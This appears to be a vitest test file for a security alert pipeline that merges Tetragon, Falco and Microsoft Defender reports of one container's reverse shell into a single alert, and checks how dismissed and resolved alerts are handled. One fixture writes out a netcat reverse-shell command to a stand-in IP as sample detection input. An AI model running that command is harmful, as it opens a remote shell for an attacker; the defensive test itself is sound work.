import { beforeEach, expect, it } from 'vitest'
import { falcoEvent } from '@/lib/commands/testing/alerts'
import { db } from '@/lib/db'
import { acceptReport } from '@/lib/ingest/accept'
import { execEvent } from '@/lib/ingest/adapters/tetragon/sample'
import { processReport } from '@/lib/ingest/process'
import { makeCollector, reportRequest } from '@/lib/ingest/testing'
import type { Format } from '@/lib/model/format'
import { makeEnvironment } from './testing'

let here = ''
beforeEach(async () => {
  here = await makeEnvironment()
})

const start = Date.now() - 5 * 86_400_000
const at = (minutes: number) => new Date(start + minutes * 60_000).toISOString()
async function send(format: Format, event: unknown): Promise<void> {
  const collector = await makeCollector(here, [format])
  const request = reportRequest(JSON.stringify(event), { 'plimsoll-cluster': 'prod' })
  await processReport((await acceptReport(collector, format, request, new Date())).id)
}
const alerts = () => db().alert.findMany({ where: { environmentId: here }, orderBy: { firstSeenAt: 'asc' } })

const reverse = (minutes: number) => execEvent('/usr/bin/nc -e /bin/sh 203.0.113.9 4444', { time: at(minutes) })
const falco = (minutes: number) => ({
  ...falcoEvent({ time: at(minutes), rule: 'Netcat Remote Code Execution in Container', workload: 'checkout' }),
  output_fields: { 'k8s.ns.name': 'shop', 'k8s.pod.name': 'checkout-6d88f6dcdd-k6bc5', 'container.name': 'web' },
})
const microsoft = (minutes: number, status: string) => ({
  AlertType: 'K8S.NODE_ReverseShell',
  AlertDisplayName: 'Potential reverse shell detected',
  SystemAlertId: 'one',
  Severity: 'Medium',
  Status: status,
  StartTimeUtc: at(minutes),
  EndTimeUtc: at(minutes),
  ProcessingEndTime: at(minutes + 60),
  AzureResourceId: '/subscriptions/1/providers/Microsoft.ContainerService/managedClusters/prod',
  Entities: [
    { Type: 'K8s-pod', Name: 'checkout-6d88f6dcdd-k6bc5', Namespace: { Type: 'K8s-namespace', Name: 'shop' } },
    { Type: 'container', Name: 'web' },
  ],
})

it('what three sensors tell of one container is one alert that names them all', async () => {
  await send('tetragon', reverse(0))
  await send('falco', falco(1))
  await send('defender', microsoft(2, 'New'))
  const [alert, ...others] = await alerts()
  expect(others).toEqual([])
  expect(alert).toMatchObject({
    type: 'K8S.NODE_ReverseShell',
    source: 'tetragon',
    sources: ['defender', 'falco', 'tetragon'],
    count: 3,
  })
  const events = await db().event.findMany({ where: { alertId: alert?.id ?? '' }, select: { source: true } })
  expect(events.map(({ source }) => source).sort()).toEqual(['defender', 'falco', 'tetragon'])
})

it('that Defender dismissed it is shown, and decides nothing', async () => {
  await send('defender', microsoft(0, 'New'))
  await send('defender', microsoft(0, 'Dismissed'))
  const [alert, ...others] = await alerts()
  expect(others).toEqual([])
  expect(alert).toMatchObject({ status: 'active', count: 1, version: 1 })
  expect(alert?.lastSeenAt.toISOString()).toBe(at(0))
  expect(alert?.evidence).toMatchObject({ fields: { status: 'dismissed in Defender for Cloud' } })
})

it('an alert that comes closed is kept as an event and raises none', async () => {
  await send('defender', microsoft(0, 'Resolved'))
  expect(await alerts()).toEqual([])
  expect(await db().event.count({ where: { environmentId: here } })).toBe(1)
})
